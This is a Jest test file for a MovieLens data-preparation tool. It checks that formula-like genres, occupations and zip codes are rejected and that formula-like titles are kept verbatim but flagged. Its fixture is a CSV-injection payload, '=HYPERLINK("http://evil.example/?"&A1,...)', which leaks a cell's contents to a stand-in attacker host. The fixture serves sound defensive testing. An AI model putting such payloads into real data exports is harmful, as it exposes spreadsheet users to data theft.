/**
 * Issue 15, point 12: spreadsheet formulas. Values stay exact (Personalize and the app need them
 * verbatim); what has a fixed vocabulary is validated (a formula is no genre, occupation or zip);
 * titles that start like a formula are listed in the manifest and on the CLI output.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { writeSynthetic } from '../../data/synthetic/generate';
import * as path from 'node:path';
import { parseLatestMovies, parseMl100kItems, parseMl100kUsers } from '../../lib/data/movielens/catalog';
import { BadLinePolicy, DataFileError, DataWarnings } from '../../lib/data/movielens/errors';
import { prepareMovieLens } from '../../lib/data/movielens/prepare';
import { FolderSink } from '../../lib/data/movielens/sink';
import { openSource } from '../../lib/data/movielens/source';
import { readTree, tempDir, TINY_MINIMUMS } from './helpers';
import { cli } from '../cli/helpers';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Toy Story")';

describe('formula-like values', () => {
  test("a genre outside the edition's names is a bad line naming file and line", () => {
    const movies = Buffer.from(`movieId,title,genres\r\n1,A (1995),"Drama|${HYPERLINK.replace(/"/g, '""')}"\r\n`);
    expect(() => parseLatestMovies(movies, 'movies.csv', new BadLinePolicy(false))).toThrow(DataFileError);
    expect(() => parseLatestMovies(movies, 'movies.csv', new BadLinePolicy(false))).toThrow(
      /^movies\.csv, line 2: genre "=HYPERLINK\("http:\/\/evil\.example\/\?"&A1/,
    );
    for (const genres of ['Drama|', "Children's", 'Drama|(no genres listed)', '+Drama']) {
      const line = Buffer.from(`movieId,title,genres\r\n1,A (1995),${genres}\r\n`);
      expect(() => parseLatestMovies(line, 'movies.csv', new BadLinePolicy(false))).toThrow(/line 2: genre /);
    }
  });

  test('u.user: an occupation outside u.occupation and a zip that is not letters and digits are bad lines', () => {
    const users = Buffer.from('1|24|M|=cmd|85711\n2|53|F|other|=1+1\n3|23|M|writer|T8H1N\n4|33|F|librarian|05201\n');
    const badLines = new BadLinePolicy(true);
    expect(parseMl100kUsers(users, 'u.user', badLines).map((u) => [u.id, u.zip])).toEqual([
      [3, 'T8H1N'],
      [4, '05201'],
    ]);
    expect(badLines.examples.map((e) => [e.line, e.problem.split(' is not')[0]])).toEqual([
      [1, 'occupation "=cmd"'],
      [2, 'zip code "=1+1"'],
    ]);
  });

  test('titles starting with = + - @ are kept exactly and listed; others are not', () => {
    const titles = [
      HYPERLINK,
      '+1 (2013)',
      '-30- (1957)',
      '@home (2001)',
      "'71 (2014)",
      'Toy Story (1995)',
      'A=B (1990)',
    ];
    const csv = ['movieId,title,genres', ...titles.map((t, i) => `${i + 1},"${t.replace(/"/g, '""')}",Drama`)];
    const formulaLike = new DataWarnings();
    const movies = parseLatestMovies(
      Buffer.from(csv.join('\r\n')),
      'movies.csv',
      new BadLinePolicy(false),
      formulaLike,
    );
    expect(movies[0].title).toBe(HYPERLINK);
    expect(movies[1].title).toBe('+1');
    expect(formulaLike.count).toBe(4);
    expect(formulaLike.examples.map((e) => [e.line, e.problem.split(': a spreadsheet')[0]])).toEqual([
      [2, `title "${HYPERLINK.slice(0, 40)}… (${HYPERLINK.length} characters)" starts with "="`],
      [3, 'title "+1" starts with "+"'],
      [4, 'title "-30-" starts with "-"'],
      [5, 'title "@home" starts with "@"'],
    ]);
    const flags = Array(19).fill('0').join('|');
    const items = new DataWarnings();
    parseMl100kItems(
      Buffer.from(`1|=1+1 (1995)|01-Jan-1995||http://x|${flags}\n`, 'latin1'),
      'u.item',
      new BadLinePolicy(false),
      new DataWarnings(),
      items,
    );
    expect(items.examples).toEqual([
      {
        file: 'u.item',
        line: 1,
        problem: 'title "=1+1" starts with "=": a spreadsheet may run it as a formula (written exactly as it is)',
      },
    ]);
  });

  test('the manifest lists them, web/movies.csv keeps the value exactly, and movierecs data prints them', async () => {
    const folder = tempDir();
    writeFileSync(
      path.join(folder, 'movies.csv'),
      `movieId,title,genres\r\n1,"${HYPERLINK.replace(/"/g, '""')}",Drama\r\n2,Toy Story (1995),Comedy\r\n`,
    );
    writeFileSync(
      path.join(folder, 'ratings.csv'),
      'userId,movieId,rating,timestamp\r\n1,1,4.0,964982703\r\n1,2,4.5,964982704\r\n',
    );
    const out = tempDir();
    const source = await openSource(folder);
    const manifest = await prepareMovieLens({
      edition: 'ml-latest-small',
      source,
      sourceDescription: folder,
      sink: new FolderSink(out),
      positiveRatingThreshold: 3.6,
      timestampShift: { kind: 'seconds', seconds: 0 },
      minimums: TINY_MINIMUMS,
    });
    await source.close();
    expect(manifest.formulaLikeTitles.count).toBe(1);
    expect(manifest.formulaLikeTitles.examples[0]).toMatchObject({ file: path.join(folder, 'movies.csv'), line: 2 });
    expect(readTree(out)['web/movies.csv'].split('\n')[1]).toBe(`1,"${HYPERLINK.replace(/"/g, '""')}",,Drama`);

    // Through the CLI, on synthetic data above Personalize's minimums with one title made a formula.
    const synthetic = tempDir();
    writeSynthetic({ edition: 'ml-latest', users: 60, items: 300, ratings: 3000, seed: 3 }, synthetic);
    const lines = readFileSync(path.join(synthetic, 'movies.csv'), 'utf8').split('\n');
    lines[1] = lines[1].replace(/^(\d+),.*,([^,]*)$/, `$1,"${HYPERLINK.replace(/"/g, '""')}",$2`);
    writeFileSync(path.join(synthetic, 'movies.csv'), lines.join('\n'));
    const run = await cli(['data', '--edition', 'ml-latest-small', '--source', synthetic, '--out', tempDir()]);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(
      '  1 titles start like a spreadsheet formula (= + - @): written exactly as they are; do not open the CSVs in a spreadsheet without care (see formulaLikeTitles in manifest.json), e.g.\n' +
        `    ${path.join(synthetic, 'movies.csv')}, line 2: title "=HYPERLINK(`,
    );
  });
});

describe('control characters in titles', () => {
  test.each([
    ['NUL', 'A\u0000B (1995)', 'U+0000', 2],
    ['tab', 'A\tB (1995)', 'U+0009', 2],
    ['DEL', 'AB\u007f (1995)', 'U+007F', 3],
  ])('a title holding %s is a bad line naming file, line and character', (_name, title, code, at) => {
    const csv = Buffer.from(`movieId,title,genres\r\n1,${title},Drama\r\n`);
    expect(() => parseLatestMovies(csv, 'movies.csv', new BadLinePolicy(false))).toThrow(
      new DataFileError('movies.csv', 2, `the title holds a control character (${code}) at its character ${at}`),
    );
    const flags = Array(19).fill('0').join('|');
    const item = Buffer.from(`1|${title}|01-Jan-1995||http://x|${flags}\n`, 'latin1');
    expect(() => parseMl100kItems(item, 'u.item', new BadLinePolicy(false), new DataWarnings())).toThrow(
      new DataFileError('u.item', 1, `the title holds a control character (${code}) at its character ${at}`),
    );
  });

  test('a CR inside a quoted title is one too', () => {
    const csv = Buffer.from('movieId,title,genres\r\n1,"A\rB (1995)",Drama\r\n');
    expect(() => parseLatestMovies(csv, 'movies.csv', new BadLinePolicy(false))).toThrow(/U\+000D/);
  });
});
